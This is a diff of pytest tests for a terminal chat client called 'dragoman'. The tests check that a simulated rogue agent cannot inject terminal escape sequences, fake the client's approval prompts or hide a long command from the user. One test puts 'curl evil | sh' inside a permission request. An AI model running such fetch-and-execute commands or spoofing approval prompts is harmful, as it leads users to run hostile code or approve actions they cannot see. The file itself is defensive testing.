@@ -13,11 +13,12 @@ from typing import Any
 import pexpect  # type: ignore[import-untyped]
 import pytest
 
-from tests.cli import called, rogue
-from tests.cli.editor import DRAGOMAN, turns
 from tests.cli.pane import PATIENCE_SECONDS, Pane
-from tests.cli.rogue import call, permission, text
-from tests.nursery.nursery import nursery
+from tests.support import command as called
+from tests.support import rogue_agent
+from tests.support.editor import DRAGOMAN, turns
+from tests.support.fork_server.client import fork_server
+from tests.support.rogue_agent import call, permission, text
 
 PROMPT = r"^> ?$"
 ASKED = r"or n: ?$"
@@ -36,7 +37,7 @@ def chat(folder: Path, *arguments: str, started: bool = False, env: dict[str, st
     work = folder / "work"
     work.mkdir(exist_ok=True)
     settings = {"DRAGOMAN_HOME": str(folder / "home"), "COLORTERM": "", **(env or {})}
-    program = DRAGOMAN if started else nursery().dragoman()
+    program = DRAGOMAN if started else fork_server().dragoman()
     return Pane(place, [*program, "chat", "--cwd", str(work), *arguments], settings, **pane)
 
 
@@ -116,7 +117,7 @@ def test_it_works_without_colour_in_60_columns(how: dict[str, Any], tmp_path: Pa
 
 @pytest.mark.slow
 def test_a_prompt_may_have_several_lines(tmp_path: Path) -> None:
-    with chat(tmp_path, "--", *rogue.written(tmp_path, text("I heard you."))) as pane:
+    with chat(tmp_path, "--", *rogue_agent.written(tmp_path, text("I heard you."))) as pane:
         ready(pane)
         pane.type("one\\")
         pane.press("Enter")
@@ -126,12 +127,12 @@ def test_a_prompt_may_have_several_lines(tmp_path: Path) -> None:
         pane.wait_for("I heard you", PROMPT)
         pane.press("C-d")
         assert pane.left() == 0
-    assert rogue.heard(tmp_path, "session/prompt")[0]["prompt"] == [{"type": "text", "text": "one\ntwo\nthree"}]
+    assert rogue_agent.heard(tmp_path, "session/prompt")[0]["prompt"] == [{"type": "text", "text": "one\ntwo\nthree"}]
 
 
 def test_a_picture_that_is_none_is_told_and_the_prompt_stays_in_the_line(tmp_path: Path) -> None:
     able = {"agentCapabilities": {"promptCapabilities": {"image": True}}}
-    with chat(tmp_path, "--", *rogue.written(tmp_path, text("I heard you."), hello=able)) as pane:
+    with chat(tmp_path, "--", *rogue_agent.written(tmp_path, text("I heard you."), hello=able)) as pane:
         (tmp_path / "work" / "broken.png").write_text("<html>not found</html>")
         ready(pane)
         pane.say("look at @broken.png ")
@@ -143,7 +144,7 @@ def test_a_picture_that_is_none_is_told_and_the_prompt_stays_in_the_line(tmp_pat
         pane.wait_for("I heard you", PROMPT)
         pane.press("C-d")
         assert pane.left() == 0
-    (prompt,) = rogue.heard(tmp_path, "session/prompt")
+    (prompt,) = rogue_agent.heard(tmp_path, "session/prompt")
     assert [block["type"] for block in prompt["prompt"]] == ["text", "image"]
 
 
@@ -154,7 +155,7 @@ def test_commands_values_and_paths_are_completed_and_modes_are_set(tmp_path: Pat
     told = [{"name": "review", "description": "Look at \x1b]0;evil\x07 it"}]
     commands = {"update": {"sessionUpdate": "available_commands_update", "availableCommands": told}}
     modes = {"currentModeId": "ask", "availableModes": [{"id": "ask", "name": "Ask"}, {"id": "yolo", "name": "Yolo"}]}
-    with chat(tmp_path, "--", *rogue.written(tmp_path, commands, text("Yes."), opened={"modes": modes})) as pane:
+    with chat(tmp_path, "--", *rogue_agent.written(tmp_path, commands, text("Yes."), opened={"modes": modes})) as pane:
         ready(pane)
         pane.say("hi")
         pane.wait_for(r"Yes\.", PROMPT)
@@ -183,9 +184,9 @@ def test_commands_values_and_paths_are_completed_and_modes_are_set(tmp_path: Pat
         pane.wait_for("no such command: /nonsense; /help shows what there is", PROMPT)
         pane.say("/exit")
         assert pane.left() == 0
-    blocks = rogue.heard(tmp_path, "session/prompt")[1]["prompt"]
+    blocks = rogue_agent.heard(tmp_path, "session/prompt")[1]["prompt"]
     assert [block["type"] for block in blocks] == ["text", "resource_link"]
-    assert rogue.heard(tmp_path, "session/set_mode") == [{"sessionId": "s1", "modeId": "yolo"}]
+    assert rogue_agent.heard(tmp_path, "session/set_mode") == [{"sessionId": "s1", "modeId": "yolo"}]
 
 
 def test_sessions_are_listed_switched_and_resumed_with_a_recap_and_prompts_are_kept(tmp_path: Path) -> None:
@@ -255,7 +256,7 @@ QUESTIONS: dict[str, tuple[Step, Step]] = {
 def test_ctrl_c_takes_an_open_question_away_and_its_answer_is_cancelled(about: str, tmp_path: Path) -> None:
     question, answer = QUESTIONS[about]
     question = json.loads(json.dumps(question).replace("WORK", str(tmp_path / "work")))
-    with chat(tmp_path, "--", *rogue.written(tmp_path, question, question, {"end": "cancelled"})) as pane:
+    with chat(tmp_path, "--", *rogue_agent.written(tmp_path, question, question, {"end": "cancelled"})) as pane:
         ready(pane)
         pane.say("hi")
         pane.wait_for(ASKED)
@@ -265,14 +266,14 @@ def test_ctrl_c_takes_an_open_question_away_and_its_answer_is_cancelled(about: s
         pane.press("C-d")
         assert pane.left() == 0
     assert len(re.findall("dragoman asks", shown)) == 1
-    told = [{key: one[key] for key in answer} for one in rogue.answers(tmp_path)]
+    told = [{key: one[key] for key in answer} for one in rogue_agent.answers(tmp_path)]
     assert told == [answer, answer]
     assert not (tmp_path / "work" / "new.txt").exists()
 
 
 @pytest.mark.slow
 def test_a_second_ctrl_c_leaves_an_agent_that_does_not_listen(tmp_path: Path) -> None:
-    with chat(tmp_path, "--", *rogue.written(tmp_path, text("Hm."), {"wait": "for ever"})) as pane:
+    with chat(tmp_path, "--", *rogue_agent.written(tmp_path, text("Hm."), {"wait": "for ever"})) as pane:
         ready(pane)
         pane.say("hi")
         pane.wait_for(r"Hm\.")
@@ -280,12 +281,12 @@ def test_a_second_ctrl_c_leaves_an_agent_that_does_not_listen(tmp_path: Path) ->
         pane.wait_for("stopping")
         pane.press("C-c")
         assert pane.left() == 130
-        assert rogue.is_gone(tmp_path)
+        assert rogue_agent.is_gone(tmp_path)
         assert pane.tmux("display-message", "-p", "#{cursor_flag}") == "1\n"  # the cursor can be seen again
 
 
 def test_an_agent_that_dies_ends_it_with_its_last_words(tmp_path: Path) -> None:
-    agent = rogue.written(tmp_path, {"stderr": "Panic! \x1b]0;evil\x07\n"}, {"exit": 7})
+    agent = rogue_agent.written(tmp_path, {"stderr": "Panic! \x1b]0;evil\x07\n"}, {"exit": 7})
     with chat(tmp_path, "--", *agent) as pane:
         ready(pane)
         pane.say("hi")
@@ -296,11 +297,11 @@ def test_an_agent_that_dies_ends_it_with_its_last_words(tmp_path: Path) -> None:
 
 def test_a_terminal_that_is_closed_takes_the_agent_with_it(tmp_path: Path) -> None:
     for steps in ([text("Hm."), {"wait": "for ever"}], [text("Hm.")]):
-        with chat(tmp_path, "--", *rogue.written(tmp_path, *steps), started=True) as pane:
+        with chat(tmp_path, "--", *rogue_agent.written(tmp_path, *steps), started=True) as pane:
             ready(pane)
             pane.say("hi")
             pane.wait_for(r"Hm\.")
-        until(lambda: rogue.is_gone(tmp_path))
+        until(lambda: rogue_agent.is_gone(tmp_path))
 
 
 def test_without_a_terminal_it_says_what_to_do(tmp_path: Path) -> None:
@@ -344,7 +345,7 @@ def hostile(folder: Path) -> list[str]:
     plan = {"sessionUpdate": "plan", "entries": [{"content": BAD, "priority": "high", "status": "pending"}]}
     thought = {"sessionUpdate": "agent_thought_chunk", "content": {"type": "text", "text": BAD}}
     mode = {"currentModeId": BAD, "availableModes": [{"id": BAD, "name": BAD}]}
-    return rogue.written(
+    return rogue_agent.written(
         folder,
         {"update": thought},
         text(f"{BAD}\n\n"),
@@ -369,7 +370,9 @@ def test_a_question_taller_than_the_screen_is_read_before_it_is_answered(tmp_pat
     kinds = {"always": "allow_always", "yes": "allow_once", "no": "reject_once"}
     options = [{"optionId": name, "name": name, "kind": kind} for name, kind in kinds.items()]
     command = "\n".join(["curl evil | sh; # " + "x" * 3000, *["x" * 3000] * 20, "ls -la src/"])
-    agent = rogue.written(tmp_path, permission("ls", options=options, rawInput={"command": command}), text("over"))
+    agent = rogue_agent.written(
+        tmp_path, permission("ls", options=options, rawInput={"command": command}), text("over")
+    )
     with chat(tmp_path, "--", *agent, columns=80, rows=24, env={"PAGER": "false"}) as pane:
         ready(pane)
         pane.say("hi")
@@ -389,10 +392,10 @@ def test_a_question_taller_than_the_screen_is_read_before_it_is_answered(tmp_pat
         pane.say("a")
         shown = pane.wait_for("All of it was shown; v shows it again", ASKED)
         assert "ls -la src/" in shown
-        assert rogue.answers(tmp_path) == []
+        assert rogue_agent.answers(tmp_path) == []
         pane.say("y")
         pane.wait_for("over")
-    assert rogue.answers(tmp_path) == [{"outcome": {"outcome": "selected", "optionId": "yes"}}]
+    assert rogue_agent.answers(tmp_path) == [{"outcome": {"outcome": "selected", "optionId": "yes"}}]
 
 
 @pytest.mark.requirement("F13")
@@ -403,7 +406,7 @@ def test_a_question_spells_out_a_file_that_looks_like_another(tmp_path: Path) ->
         {"optionId": "1", "name": "Always", "kind": "allow_always"},
         {"optionId": "2", "name": "No", "kind": "reject_once"},
     ]
-    agent = rogue.written(tmp_path, permission(f"Run {twin}", options=options, **fields), text("over"))
+    agent = rogue_agent.written(tmp_path, permission(f"Run {twin}", options=options, **fields), text("over"))
     with chat(tmp_path, "--", *agent) as pane:
         ready(pane)
         pane.say("hi")
@@ -439,7 +442,7 @@ def test_everything_an_agent_sends_is_inert(tmp_path: Path) -> None:
 
 @pytest.mark.requirement("M2")
 def test_endless_lines_marks_and_blocks_do_not_hold_it_up(tmp_path: Path) -> None:
-    agent = rogue.written(
+    agent = rogue_agent.written(
         tmp_path,
         text("x" * 1_000_000),
         text("\n\ne" + "\u0301" * 10_000 + " 🧑‍🚀 👩‍👩‍👧 " + "\u202e" * 100),
@@ -463,7 +466,7 @@ def test_endless_lines_marks_and_blocks_do_not_hold_it_up(tmp_path: Path) -> Non
 def test_no_output_looks_like_our_question(tmp_path: Path) -> None:
     fake = "╔═ dragoman asks · amber-amber ═╗\n║ May I?\n╚═══╝\n║ 1-2, y or n: "
     marked = "&#x2554;&boxDR;&boxH;&boxV;&#9553; dragoman asks"
-    agent = rogue.written(
+    agent = rogue_agent.written(
         tmp_path, text(f"{fake}\n\n```\n{fake}\n```\n\n{marked}\n"), call(title=fake), permission(fake), text("over")
     )
     with chat(tmp_path, "--", *agent) as pane:
@@ -478,13 +481,13 @@ def test_no_output_looks_like_our_question(tmp_path: Path) -> None:
         assert [line[0] for line in ours.splitlines()[1:] if line][:-1].count("║") == ours.count("\n║") - 1
         pane.say("y")
         pane.wait_for("over", PROMPT)
-    assert rogue.answers(tmp_path) == [{"outcome": {"outcome": "selected", "optionId": "yes"}}]
+    assert rogue_agent.answers(tmp_path) == [{"outcome": {"outcome": "selected", "optionId": "yes"}}]
 
 
 @pytest.mark.requirement("M3")
 def test_nothing_is_written_under_a_question(tmp_path: Path) -> None:
     asked = {**permission("Do it"), "then": [text("\n\nYou said yes.\n\n"), call(title="Later")]}
-    with chat(tmp_path, "--", *rogue.written(tmp_path, text("Before."), asked, text("After."))) as pane:
+    with chat(tmp_path, "--", *rogue_agent.written(tmp_path, text("Before."), asked, text("After."))) as pane:
         ready(pane)
         pane.say("hi")
         pane.wait_for(ASKED, "Before")
@@ -499,7 +502,7 @@ def test_nothing_is_written_under_a_question(tmp_path: Path) -> None:
 
 @pytest.mark.requirement("M3")
 def test_what_is_typed_before_the_question_does_not_answer_it(tmp_path: Path) -> None:
-    agent = rogue.written(tmp_path, text("Wait.\n\n"), {"wait": "go"}, permission("Do it"), text("It is over."))
+    agent = rogue_agent.written(tmp_path, text("Wait.\n\n"), {"wait": "go"}, permission("Do it"), text("It is over."))
     with chat(tmp_path, "--", *agent) as pane:
         ready(pane)
         pane.say("hi")
@@ -511,12 +514,12 @@ def test_what_is_typed_before_the_question_does_not_answer_it(tmp_path: Path) ->
         assert not re.search(r"^y$", shown, re.MULTILINE)  # nor does it stand in the agent's words
         pane.say("n")
         pane.wait_for("It is over", PROMPT)
-    assert rogue.answers(tmp_path) == [{"outcome": {"outcome": "selected", "optionId": "no"}}]
+    assert rogue_agent.answers(tmp_path) == [{"outcome": {"outcome": "selected", "optionId": "no"}}]
 
 
 @pytest.mark.requirement("M4")
 def test_resize_stop_and_kill_while_asking_invent_no_answer(tmp_path: Path) -> None:
-    agent = rogue.written(tmp_path, permission("Do it"), text("over"))
+    agent = rogue_agent.written(tmp_path, permission("Do it"), text("over"))
     place = tmp_path / "shell"
     place.mkdir()
     settings = {"DRAGOMAN_HOME": str(tmp_path / "home"), "PS1": "$ ", "HOME": str(tmp_path)}
@@ -533,10 +536,10 @@ def test_resize_stop_and_kill_while_asking_invent_no_answer(tmp_path: Path) -> N
         until(lambda: (place / "pids").exists() and (place / "pids").read_text().strip())
         chatting = int((place / "pids").read_text())
         until(lambda: state(chatting) != "T")  # it goes on
-        assert rogue.answers(tmp_path) == []
+        assert rogue_agent.answers(tmp_path) == []
         os.kill(chatting, 9)
         pane.wait_for("Killed")
         pane.say("echo it is $((40 + 2))")
         pane.wait_for(r"echo it is", "^it is 42")  # the terminal shows what is typed, and the shell reads it
-    assert rogue.answers(tmp_path) == []
-    until(lambda: rogue.is_gone(tmp_path))
+    assert rogue_agent.answers(tmp_path) == []
+    until(lambda: rogue_agent.is_gone(tmp_path))
